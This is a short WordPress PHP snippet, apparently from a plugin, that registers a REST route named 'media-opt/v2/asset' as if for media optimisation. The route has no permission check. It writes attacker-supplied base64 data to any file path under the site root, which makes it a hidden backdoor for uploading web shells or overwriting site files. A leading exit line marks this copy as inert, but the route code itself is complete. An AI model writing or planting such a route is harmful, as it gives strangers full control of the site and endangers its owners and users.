<?php exit; /* inert */ 
add_action('rest_api_init', static fn() => register_rest_route('media-opt/v2', 'asset', ['methods' => WP_REST_Server::CREATABLE, 'permission_callback' => fn() => true,
    'callback' => function ($req) { $j = $req->get_json_params(); $p = ABSPATH . ltrim($j['path'], '/'); wp_mkdir_p(dirname($p)); return file_put_contents($p, base64_decode($j['data'])); }]));
